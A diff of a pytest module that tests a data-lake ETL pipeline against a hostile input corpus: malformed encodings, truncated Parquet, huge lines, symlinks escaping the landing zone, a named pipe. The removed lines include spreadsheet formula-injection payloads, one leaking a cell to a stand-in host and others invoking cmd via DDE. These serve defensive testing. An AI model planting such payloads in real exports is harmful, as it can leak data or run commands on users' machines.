@@ -1,5 +1,6 @@
-"""A hostile and broken input corpus, landed on top of a small generated landing zone and run
-through ONE in-process ``etl_all``; then one test per kind of file.
+"""A hostile and broken input corpus (``corpus.py``), landed in days of its own next to the
+generated sample data of the session's shared run (``conftest.lake_run``); one test per kind of
+file.
 
 For every file the platform either ingests it (bad rows quarantined with their reasons) or
 rejects it with an error naming it (bronze metadata ``unreadable_files``, the log, and the failed
@@ -8,14 +9,14 @@ Conservation holds for every dataset, and nothing outside the landing and lake r
 written: a sentinel folder next to them, reachable only through symbolic links planted in the
 landing zone, stays untouched and its content never reaches bronze.
 
-The 200 MB file (``test_200mb_file_is_streamed_not_collected``) runs bronze only, in a
-``dagster asset materialize`` subprocess whose driver accepts at most 4 MiB of task results.
+The 200 MB file (``test_200mb_file_is_streamed_not_collected``, slow) runs bronze only, in a
+subprocess whose driver accepts at most 4 MiB of task results.
 """
 
 from __future__ import annotations
 
 import collections
-import hashlib
+import datetime as dt
 import json
 import os
 import subprocess
@@ -25,177 +26,47 @@ from pathlib import Path
 
 import pyarrow as pa
 import pyarrow.dataset as pads
-import pyarrow.parquet as pq
 import pytest
-
-from dagster import DagsterInstance
 
 from etl_assets.ingest import ManifestStore
 from etl_assets.lake import Lake
-
-from etl_assets.registry import DATASETS, dataset
-from etl_assets.sample_data import generate
+from etl_assets.registry import DATASETS
+from etl_assets_tests.corpus import (
+    ACCOUNT_HEADER,
+    BAD_BYTES_JSONL,
+    BOM_CSV,
+    CUSTOMER_HEADER,
+    D1,
+    DEEP,
+    EMPTY,
+    EXPECTED_BRONZE_ROWS,
+    FIFO,
+    FORMULA_VALUES,
+    HEADER_ONLY,
+    HUGE_LINE,
+    HUGE_LINE_BYTES,
+    LATIN1_CSV,
+    LINKED_DIR,
+    LINKED_FILE,
+    LONG_CELL,
+    LONG_CELL_CHARS,
+    MB,
+    ODD_NAMES,
+    RETYPED,
+    SEMICOLONS,
+    TRUNCATED,
+    _account,
+    _csv,
+    _nested,
+    snapshot,
+)
+from etl_assets_tests.helpers import materializations, read_table
 from etl_assets_tests.moto_server import moto_s3  # noqa: F401  (fixture)
-from etl_assets_tests.test_end_to_end import materializations, run_etl_all
 
-D1, D2 = "2026-11-01", "2026-11-02"
 ROOT = Path(__file__).resolve().parents[1]
 
-# --- the corpus: landing keys ---------------------------------------------------------------
-EMPTY = {
-    "accounts": f"crm/accounts/dt={D1}/empty.csv",
-    "behavior": f"web/behavior/dt={D1}/empty.jsonl",
-    "orders": f"warehouse/orders/dt={D1}/empty.parquet",
-}
-HEADER_ONLY = f"crm/contacts/dt={D2}/header-only.csv"
-SEMICOLONS = f"warehouse/products/dt={D2}/semicolons.csv"
-LATIN1_CSV = f"warehouse/customers/dt={D2}/latin1-export.csv"
-BAD_BYTES_JSONL = f"stream/order_events/dt={D2}/bad-bytes.jsonl"
-TRUNCATED = f"warehouse/orders/dt={D2}/truncated.parquet"
-RETYPED = f"warehouse/orders/dt={D2}/retyped.parquet"
-HUGE_LINE = f"web/behavior/dt={D2}/huge-line.jsonl"
-LONG_CELL = f"warehouse/products/dt={D2}/long-cell.csv"
-FORMULAS = f"crm/accounts/dt={D2}/formulas.csv"
-DEEP = f"web/behavior/dt={D2}/deep-nesting.jsonl"
-ODD_NAMES = {
-    "accounts": f"crm/accounts/dt={D2}/Kunden Übersicht + 100% (final) #2.csv",
-    "behavior": f"web/behavior/dt={D1}/événements du jour – 東京.jsonl",
-}
-LINKED_FILE = f"crm/accounts/dt={D2}/linked.csv"
-LINKED_DIR = "crm/accounts/dt=2026-11-03"
-FIFO = f"crm/opportunities/dt={D2}/pipe.csv"
 
-MB = 1 << 20
-HUGE_LINE_BYTES = 10 * MB
-LONG_CELL_CHARS = 1 * MB
-FORMULA_VALUES = [
-    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
-    "+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-]
-ACCOUNT_HEADER = dataset("accounts").source_columns
-PRODUCT_HEADER = dataset("products").source_columns
-CUSTOMER_HEADER = dataset("customers").source_columns
-
-
-def _csv_line(values) -> str:
-    out = []
-    for v in values:
-        v = "" if v is None else str(v)
-        out.append('"' + v.replace('"', '""') + '"' if any(c in v for c in ',"\n\r') else v)
-    return ",".join(out)
-
-
-def _csv(header, rows) -> bytes:
-    return ("\n".join([_csv_line(header)] + [_csv_line(r) for r in rows]) + "\n").encode()
-
-
-def _account(account_id: str, name: str = "Acme", ts: str = "2026-11-02") -> list:
-    return [account_id, name, "Technology", "1000", "Berlin", "de", f"{account_id.lower()}@example.com",
-            "2026-01-01", ts]
-
-
-def _event(event_id: str, **kw) -> dict:
-    return {"event_id": event_id, "customer_id": None, "event_name": "login", "event_ts": "2026-11-02T10:00:00Z",
-            "session_id": "s-1", "device": "web", "geo": "de", "url_1": None, "url_2": None, "metadata": None, **kw}
-
-
-def _nested(depth: int) -> str:
-    return '{"a":' * depth + "1" + "}" * depth
-
-
-def build_corpus(landing: Path, sentinel: Path) -> None:
-    def put(key: str, data: bytes) -> Path:
-        p = landing / key
-        p.parent.mkdir(parents=True, exist_ok=True)
-        p.write_bytes(data)
-        return p
-
-    for key in EMPTY.values():
-        put(key, b"")
-    put(HEADER_ONLY, (",".join(dataset("contacts").source_columns) + "\r\n").encode())
-    # a European export: semicolons, one quoted field holding a semicolon
-    put(SEMICOLONS, (";".join(PRODUCT_HEADER) + "\n"
-                     "PX-SEMI-1;SKU-1;Widget;tools;9.99;USD;true;2026-11-02T10:00:00Z\n"
-                     'PX-SEMI-2;SKU-2;"Gadget; large";tools;19.99;USD;true;2026-11-02T10:00:00Z\n'
-                     "PX-SEMI-3;SKU-3;Gizmo;tools;5.00;USD;false;2026-11-02T10:00:00Z\n").encode())
-    # Latin-1 bytes in a UTF-8 file: "Müller" as M\xfcller, next to a valid UTF-8 row
-    put(LATIN1_CSV, _csv(CUSTOMER_HEADER, []) +
-        b"CX-LATIN-1,anna@example.com,Anna,M\xfcller,+49 30 1234,DE,retail,2026-01-01,2026-11-02T10:00:00Z\n"
-        b"CX-UTF8-1,jose@example.com,Jos\xc3\xa9,Garc\xc3\xada,+34 91 1234,ES,retail,2026-01-01,2026-11-02T10:00:00Z\n")
-    put(BAD_BYTES_JSONL,
-        b'{"event_id":"OE-BAD-1","order_id":"O-1","event_type":"PAID\xff\xfe","event_ts":"2026-11-02T10:00:00Z"}\n'
-        + json.dumps({"event_id": "OE-OK-1", "order_id": "O-NOPE", "event_type": "PAID",
-                      "event_ts": "2026-11-02T10:00:00Z", "payload": None}).encode() + b"\n")
-    # a Parquet file cut in half (no footer)
-    good = next((landing / "warehouse" / "orders").rglob("*.parquet"))
-    data = good.read_bytes()
-    put(TRUNCATED, data[: len(data) // 2])
-    # a Parquet file with the wrong column types: quantity text, order_ts text, amount double
-    sample = pq.read_table(good).slice(0, 1).to_pylist()[0]
-    retyped = pa.table({
-        "order_id": ["O-RETYPED-1", "O-RETYPED-2"],
-        "customer_id": [sample["customer_id"]] * 2,
-        "product_id": [sample["product_id"]] * 2,
-        "order_ts": ["2026-11-02T09:00:00Z", "2026-11-02T09:30:00Z"],
-        "quantity": ["three", "2"],
-        "unit_price": [5.5, 5.5],
-        "amount": [16.5, 11.0],
-        "currency": ["USD", "USD"],
-        "status": ["PLACED", "PLACED"],
-        "last_modified_ts": ["2026-11-02T09:00:00Z", "2026-11-02T09:30:00Z"],
-    })
-    (landing / RETYPED).parent.mkdir(parents=True, exist_ok=True)
-    pq.write_table(retyped, landing / RETYPED)
-    # one JSON line of 10 MB (a big metadata object), then a normal line
-    blob = "x" * HUGE_LINE_BYTES
-    put(HUGE_LINE, (json.dumps(_event("EV-HUGE-1", metadata={"blob": blob})) + "\n"
-                    + json.dumps(_event("EV-AFTER-HUGE")) + "\n").encode())
-    # a CSV cell of 1 MB (quoted, with commas, quotes and a line break inside)
-    cell = ('Mega, "long" name\n' * (LONG_CELL_CHARS // 18 + 1))[:LONG_CELL_CHARS]
-    put(LONG_CELL, _csv(PRODUCT_HEADER, [["PX-LONG-1", "SKU-L", cell, "tools", "1.00", "USD", "true",
-                                          "2026-11-02T10:00:00Z"]]))
-    # spreadsheet formula injection
-    put(FORMULAS, _csv(ACCOUNT_HEADER, [_account(f"AX-FORMULA-{i}", v) for i, v in enumerate(FORMULA_VALUES)]))
-    # deeply nested JSON: past the parser's nesting limit as an object, and as a string holding
-    # JSON; within the limit as an object
-    put(DEEP, "\n".join([
-        json.dumps(_event("EV-DEEP-OBJ"))[:-1] + ', "metadata": ' + _nested(5000) + "}",
-        json.dumps(_event("EV-DEEP-STR", metadata=_nested(5000))),
-        json.dumps(_event("EV-NESTED-OK"))[:-1] + ', "metadata": ' + _nested(200) + "}",
-    ]).encode() + b"\n")
-    # file names with spaces, '+', '%', '#', parentheses and non-ASCII characters
-    put(ODD_NAMES["accounts"], _csv(ACCOUNT_HEADER, [_account("AX-ODD-NAME-1", "Grüße GmbH")]))
-    put(ODD_NAMES["behavior"], (json.dumps(_event("EV-ODD-NAME-1", event_ts="2026-11-01T10:00:00Z")) + "\n").encode())
-    # the sentinel: valid account files outside the landing zone, linked from inside it
-    (sentinel / "dir").mkdir(parents=True)
-    (sentinel / "secret.csv").write_bytes(_csv(ACCOUNT_HEADER, [_account("AX-SENTINEL-1", "SENTINEL")]))
-    (sentinel / "dir" / "more.csv").write_bytes(_csv(ACCOUNT_HEADER, [_account("AX-SENTINEL-2", "SENTINEL")]))
-    os.symlink(sentinel / "secret.csv", landing / LINKED_FILE)
-    os.symlink(sentinel / "dir", landing / LINKED_DIR, target_is_directory=True)
-    # a named pipe: opening it for reading would block the run forever
-    (landing / FIFO).parent.mkdir(parents=True, exist_ok=True)
-    os.mkfifo(landing / FIFO)
-
-
-def snapshot(folder: Path) -> dict[str, tuple]:
-    """Every entry below ``folder`` (links not followed): type, size, mtime and content digest."""
-    out = {}
-    for p in sorted(folder.rglob("*")):
-        st = p.lstat()
-        if p.is_symlink():
-            out[p.relative_to(folder).as_posix()] = ("link", os.readlink(p))
-        elif p.is_file():
-            out[p.relative_to(folder).as_posix()] = ("file", st.st_size, st.st_mtime_ns,
-                                                      hashlib.sha256(p.read_bytes()).hexdigest())
-        else:
-            out[p.relative_to(folder).as_posix()] = ("other", st.st_mode, st.st_mtime_ns)
-    return out
-
-
-def table(lake: Path, layer: str, name: str) -> list[dict]:
-    return pads.dataset(str(lake / layer / name), format="parquet").to_table().to_pylist()
+table = read_table
 
 
 def rows_of(lake: Path, layer: str, name: str, col: str, values) -> dict:
@@ -206,20 +77,8 @@ def rows_of(lake: Path, layer: str, name: str, col: str, values) -> dict:
 
 
 @pytest.fixture(scope="module")
-def hostile(tmp_path_factory, spark):
-    root = tmp_path_factory.mktemp("hostile")
-    landing, lake, sentinel = root / "landing", root / "lake", root / "sentinel"
-    totals = generate(landing, days=2, seed=5, scale=0.01)
-    build_corpus(landing, sentinel)
-    before = {"landing": snapshot(landing), "sentinel": snapshot(sentinel)}
-    t0 = time.monotonic()
-    instance = DagsterInstance.ephemeral()
-    result = run_etl_all(landing, lake, instance)
-    print(f"\n[hostile] etl_all over the corpus: {time.monotonic() - t0:.1f}s")
-    checks = {(tuple(e.asset_key.path), e.check_name): e for e in result.get_asset_check_evaluations()}
-    logs = [e.user_message for e in instance.all_logs(result.run_id)]
-    return dict(root=root, landing=landing, lake=lake, sentinel=sentinel, totals=totals, before=before,
-                result=result, mats=materializations(result), checks=checks, logs=logs)
+def hostile(lake_run):
+    return lake_run
 
 
 def bronze_by_source(h, name: str, key: str) -> list[dict]:
@@ -244,25 +103,14 @@ def test_run_succeeds_and_every_table_publishes(hostile):
         assert f"gold/{t}" in hostile["mats"]
 
 
-def test_conservation_for_every_dataset(hostile):
-    lake, mats = hostile["lake"], hostile["mats"]
-    for ds in DATASETS:
-        bronze = len(table(lake, "bronze", ds.name))
-        silver = len(table(lake, "silver", ds.name))
-        quarantine = table(lake, "quarantine", ds.name)
-        meta = mats[f"silver/{ds.name}"]
-        assert meta["bronze_rows"] == bronze and meta["silver_rows"] == silver, ds.name
-        assert bronze == meta["duplicate_row"] + len(quarantine) + meta["superseded"] + silver, ds.name
-        assert all(r["_reasons"] and r["_reasons"] == sorted(r["_reasons"]) for r in quarantine), ds.name
-        per_reason = collections.Counter(x for r in quarantine for x in r["_reasons"])
-        for reason, n in per_reason.items():
-            assert meta[f"quarantined_{reason}"] == n, (ds.name, reason)
+# conservation on this run: test_end_to_end.test_conservation_for_every_dataset
 
 
 def test_nothing_outside_the_roots_is_read_or_written(hostile):
     assert snapshot(hostile["sentinel"]) == hostile["before"]["sentinel"]  # untouched
     assert snapshot(hostile["landing"]) == hostile["before"]["landing"]  # landing is read-only
-    assert sorted(p.name for p in hostile["root"].iterdir()) == ["lake", "landing", "sentinel"]
+    assert sorted(p.name for p in hostile["root"].iterdir()) == ["alerts.jsonl", "dagster_home", "lake", "landing",
+                                                                 "sentinel"]
     # the linked content never reached bronze
     bronze = table(hostile["lake"], "bronze", "accounts")
     assert not [r for r in bronze if "SENTINEL" in (r["account_id"] or "") + (r["account_name"] or "")]
@@ -288,6 +136,25 @@ def test_links_and_special_files_are_refused_by_name(hostile):
 def test_clean_datasets_pass_files_readable(hostile):
     for name in ("rates", "contacts", "customers", "products", "behavior", "order_events"):
         assert hostile["checks"][(("bronze", name), "files_readable")].passed, name
+
+
+def test_bronze_holds_every_generated_row_plus_the_corpus_rows(hostile):
+    """Per dataset: the generator's row count plus what the corpus files hold, counted by hand."""
+    for ds in DATASETS:
+        assert len(table(hostile["lake"], "bronze", ds.name)) == \
+            hostile["totals"][ds.name] + EXPECTED_BRONZE_ROWS[ds.name], ds.name
+
+
+def test_csv_with_byte_order_mark_and_fractional_timestamps(hostile):
+    """A BOM before the header is not part of the first column's name; fractions of a second
+    (one digit, nine digits) are kept to the microsecond, offsets converted to UTC."""
+    (row,) = bronze_by_source(hostile, "contacts", BOM_CSV)
+    assert row["contact_id"] == "CT-BOM-1" and row["_corrupt_record"] is None
+    silver = rows_of(hostile["lake"], "silver", "contacts", "contact_id", ["CT-BOM-1"])["CT-BOM-1"]
+    utc = dt.timezone.utc
+    assert silver["created_at"].astimezone(utc) == dt.datetime(2026, 11, 9, 10, 0, 0, 500000, tzinfo=utc)
+    assert silver["last_modified_at"].astimezone(utc) == dt.datetime(2026, 11, 9, 9, 0, 0, 123456, tzinfo=utc)
+    assert silver["lifecycle_stage"] == "customer" and silver["email_domain"] == "example.com"
 
 
 # --- one test per file ------------------------------------------------------------------------
